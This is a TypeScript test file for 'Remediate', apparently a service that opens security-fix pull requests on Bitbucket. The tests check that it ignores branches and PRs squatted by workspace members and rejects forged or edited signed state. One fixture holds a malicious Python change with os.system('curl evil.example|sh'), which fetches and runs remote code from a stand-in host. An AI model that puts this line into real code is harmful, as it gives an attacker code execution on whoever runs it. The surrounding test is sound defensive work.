/**
 * Remediate trusts only its own work on Bitbucket (issue 14, row 1). A workspace member squats the
 * app's branch name with a malicious change and a PR whose description ends with a hidden state
 * copied from a real Remediate PR; CI then uploads the matching SARIF. The scan must leave the
 * member's PR and branch alone and propose its own fix on a fresh branch. Everything goes through
 * the web trigger, the queue and the emulator's REST API, as a member and as the app.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { setUpWorkspace, startHarness, type Harness, type Workspace } from './support/harness';
import { sarifLog, yamlFinding, yamlFindingIn } from './support/sarif';

const FILES = {
  'loader.py': 'import yaml\n\n\ndef load(text):\n    return yaml.load(text)\n',
  'more.py': 'import yaml\n\n\ndef more(text):\n    return yaml.load(text)\n',
  'README.md': '# app\n',
};
const EVIL = "import os\nimport yaml\n\n\ndef load(text):\n    os.system('curl evil.example|sh')\n    return yaml.safe_load(text)\n";
const BRANCH = 'remediate/pyyaml-safe-load';

let h: Harness;

before(async () => {
  h = await startHarness();
});
after(async () => h.close());

const basic = (email: string, token: string) => `Basic ${Buffer.from(`${email}:${token}`).toString('base64')}`;
/** The harness's member of `slug` (write access, Bitbucket's default for members). */
const member = (slug: string) => basic(`member@${slug}.test`, `ATATT3xMember${slug}000000000000000000001`);

async function rest(slug: string, path: string, init: { method?: string; body?: string | URLSearchParams; json?: unknown } = {}) {
  const headers: Record<string, string> = { Authorization: member(slug) };
  let body: string | URLSearchParams | undefined = init.body;
  if (init.json !== undefined) {
    headers['Content-Type'] = 'application/json';
    body = JSON.stringify(init.json);
  }
  const response = await fetch(`${h.url}/bitbucket/2.0/repositories/${slug}/app${path}`, { method: init.method ?? 'GET', headers, ...(body === undefined ? {} : { body }) });
  const text = await response.text();
  assert.ok(response.ok, `${init.method ?? 'GET'} ${path} → ${response.status} ${text}`);
  return text ? JSON.parse(text) : undefined;
}

/** The member pushes the app's branch name with their own change, as `git push` would. */
async function squatBranch(slug: string, ws: Workspace): Promise<void> {
  const form = new URLSearchParams({ branch: BRANCH, parents: ws.commit, message: 'Use safe_load', '/loader.py': EVIL });
  await rest(slug, '/src', { method: 'POST', body: form });
}

async function uploadAndWait(ws: Workspace, slug: string, results = [yamlFinding()]): Promise<void> {
  const upload = await h.upload({ repository: `${slug}/app`, commit: ws.commit, branch: 'main' }, sarifLog(results), { Authorization: `Bearer ${ws.uploadToken}` });
  assert.equal(upload.status, 202, JSON.stringify(upload.json));
  await h.host.app.queue.idle();
}

const repo = (slug: string) => {
  const record = h.host.emulator.repository(slug, 'app');
  assert.ok(record);
  return record;
};
const fileAt = (slug: string, commit: string, path: string): string | undefined => {
  const record = repo(slug);
  const blob = record.commits[commit]?.tree[path]?.blob;
  return blob === undefined ? undefined : record.blobs[blob];
};
const serviceAccountUuid = (slug: string) => h.host.emulator.state.users.find((user) => user.username === `${slug}-bot`)?.uuid;

/** The scan's findings in loader.py, with the pull request each is linked to. */
async function loaderFinding(ws: Workspace) {
  const listed = await h.invoke<{ items: { path: string; status: string; pullRequest?: { id: number; url: string } }[] }>('listFindings', {}, ws.repoContext);
  assert.equal(listed.ok, true, JSON.stringify(listed.error));
  return listed.data?.items.find((item) => item.path === 'loader.py');
}

test("a member's PR with a state copied from a real Remediate PR is not adopted; the fix goes to a fresh branch", async () => {
  // A real Remediate PR, in another workspace, whose description the member copies.
  const source = await setUpWorkspace(h, 'trust-src', FILES);
  await uploadAndWait(source, 'trust-src');
  const genuine = repo('trust-src').pullRequests.find((pr) => pr.sourceBranch === BRANCH);
  assert.ok(genuine, 'the source workspace got a real Remediate PR');
  assert.match(genuine.description, /<!-- remediate:state \{.*"sig":"[0-9a-f]{64}"/, 'a signed state');

  const ws = await setUpWorkspace(h, 'trust-a', FILES);
  await squatBranch('trust-a', ws);
  const squatted = repo('trust-a').branches[BRANCH];
  const theirs = await rest('trust-a', '/pullrequests', {
    method: 'POST', json: { title: genuine.title, description: genuine.description, source: { branch: { name: BRANCH } } },
  });
  await uploadAndWait(ws, 'trust-a');

  // The member's PR and branch are exactly as they left them: not adopted, extended, commented on or closed.
  const memberPr = repo('trust-a').pullRequests.find((pr) => pr.id === theirs.id);
  assert.equal(memberPr?.state, 'OPEN');
  assert.equal(memberPr?.description, genuine.description);
  assert.deepEqual(memberPr?.comments, []);
  assert.equal(repo('trust-a').branches[BRANCH], squatted);

  // Remediate's own PR, on a fresh branch, by the service account, with the real fix and nothing else.
  const ours = repo('trust-a').pullRequests.find((pr) => pr.sourceBranch === `${BRANCH}-2`);
  assert.ok(ours, `a PR on a fresh branch: ${JSON.stringify(repo('trust-a').pullRequests.map((pr) => pr.sourceBranch))}`);
  assert.equal(ours.authorUuid, serviceAccountUuid('trust-a'));
  const fixed = fileAt('trust-a', ours.sourceCommit, 'loader.py') ?? '';
  assert.match(fixed, /yaml\.safe_load\(text\)/);
  assert.doesNotMatch(fixed, /os\.system|evil/);

  // The finding is linked to Remediate's PR, on the page and in Code Insights.
  const finding = await loaderFinding(ws);
  assert.equal(finding?.status, 'fix_proposed');
  assert.equal(finding?.pullRequest?.id, ours.id);
  const prs = await h.invoke<{ items: { id: number; branch: string }[] }>('listPullRequests', {}, ws.repoContext);
  assert.deepEqual(prs.data?.items.map((pr) => [pr.id, pr.branch]), [[ours.id, `${BRANCH}-2`]]);
  const annotations = repo('trust-a').reports[ws.commit]?.['remediate-security']?.annotations ?? [];
  const links = annotations.filter((annotation) => String(annotation.path) === 'loader.py').map((annotation) => String(annotation.link));
  assert.ok(links.length === 1 && links[0]?.endsWith(`/pull-requests/${ours.id}`), `annotation links Remediate's PR: ${links}`);

  // A later scan with one more finding extends Remediate's PR on its fresh branch, still leaving the member's alone.
  await uploadAndWait(ws, 'trust-a', [yamlFinding(), yamlFindingIn('more.py')]);
  const extended = repo('trust-a').pullRequests.find((pr) => pr.id === ours.id);
  assert.match(fileAt('trust-a', repo('trust-a').branches[`${BRANCH}-2`] ?? '', 'more.py') ?? '', /yaml\.safe_load\(text\)/);
  assert.equal(extended?.state, 'OPEN');
  assert.equal(repo('trust-a').branches[BRANCH], squatted, "the member's branch is untouched");
  assert.equal(repo('trust-a').pullRequests.length, 2, 'no third PR');
});

test('a squatted branch name, with a PR carrying no state or with no PR at all, no longer stops the fix', async () => {
  // With a PR and no state at all.
  const a = await setUpWorkspace(h, 'trust-b', FILES);
  await squatBranch('trust-b', a);
  await rest('trust-b', '/pullrequests', { method: 'POST', json: { title: 'my yaml fix', description: 'hands off', source: { branch: { name: BRANCH } } } });
  await uploadAndWait(a, 'trust-b');
  const ours = repo('trust-b').pullRequests.find((pr) => pr.sourceBranch === `${BRANCH}-2`);
  assert.ok(ours, 'Remediate proposed its fix anyway');
  assert.equal((await loaderFinding(a))?.pullRequest?.id, ours.id);

  // A branch and no PR: it is someone's work in progress, not a leftover of ours to delete.
  const b = await setUpWorkspace(h, 'trust-c', FILES);
  await squatBranch('trust-c', b);
  const squatted = repo('trust-c').branches[BRANCH];
  await uploadAndWait(b, 'trust-c');
  assert.equal(repo('trust-c').branches[BRANCH], squatted, 'the member\'s branch was not deleted');
  assert.ok(repo('trust-c').pullRequests.some((pr) => pr.sourceBranch === `${BRANCH}-2`), 'the fix went to a fresh branch');
});

/** The window between "PR created" and "PR stored": no stored PR, findings still open and unlinked. */
async function loseRecord(ws: Workspace): Promise<void> {
  await h.host.app.deps.db.execute('DELETE FROM pull_requests WHERE repo_uuid = ?', [ws.repoUuid]);
  await h.host.app.deps.db.execute(
    "UPDATE findings SET status = 'open', pr_id = NULL, data = json_remove(json_set(data, '$.status', 'open'), '$.pullRequest') WHERE repo_uuid = ?",
    [ws.repoUuid],
  );
  const finding = await loaderFinding(ws);
  assert.equal(finding?.status, 'open');
  assert.equal(finding?.pullRequest, undefined);
}

test("Remediate's own PR whose record was lost is still adopted (signed, by the service account, tip its commit)", async () => {
  const ws = await setUpWorkspace(h, 'trust-d', FILES);
  await uploadAndWait(ws, 'trust-d');
  const ours = repo('trust-d').pullRequests.find((pr) => pr.sourceBranch === BRANCH);
  assert.ok(ours);
  await loseRecord(ws);
  await uploadAndWait(ws, 'trust-d');
  assert.equal(repo('trust-d').pullRequests.length, 1, 'adopted, not duplicated');
  assert.equal((await loaderFinding(ws))?.pullRequest?.id, ours.id);

  // Someone edits the description's state (e.g. to claim more findings): the signature no longer holds.
  await loseRecord(ws);
  const edited = ours.description.replace(/"fingerprints":\["/, '"fingerprints":["forged","');
  await rest('trust-d', `/pullrequests/${ours.id}`, { method: 'PUT', json: { title: ours.title, description: edited } });
  await uploadAndWait(ws, 'trust-d');
  const fresh = repo('trust-d').pullRequests.find((pr) => pr.sourceBranch === `${BRANCH}-2`);
  assert.ok(fresh, 'an edited state is not trusted: a fresh PR instead');
  assert.equal((await loaderFinding(ws))?.pullRequest?.id, fresh.id);
});

test('when others hold the branch and every fresh name, the scan still finishes and touches none of them', async () => {
  const ws = await setUpWorkspace(h, 'trust-e', FILES);
  const names = [BRANCH, `${BRANCH}-2`, `${BRANCH}-3`, `${BRANCH}-4`, `${BRANCH}-5`];
  for (const name of names) {
    await rest('trust-e', '/src', { method: 'POST', body: new URLSearchParams({ branch: name, parents: ws.commit, message: 'mine', '/loader.py': EVIL }) });
  }
  const before = { ...repo('trust-e').branches };
  const upload = await h.upload({ repository: 'trust-e/app', commit: ws.commit, branch: 'main' }, sarifLog([yamlFinding()]), { Authorization: `Bearer ${ws.uploadToken}` });
  await h.host.app.queue.idle();
  const status = await h.scanStatus(upload.json.scanId, ws.uploadToken);
  assert.equal(status.json.status, 'done', JSON.stringify(status.json));
  assert.deepEqual(repo('trust-e').branches, before, 'no branch deleted, moved or added');
  assert.equal(repo('trust-e').pullRequests.length, 0);
  assert.equal((await loaderFinding(ws))?.status, 'open', 'proposed by a later scan once a name is free');
});
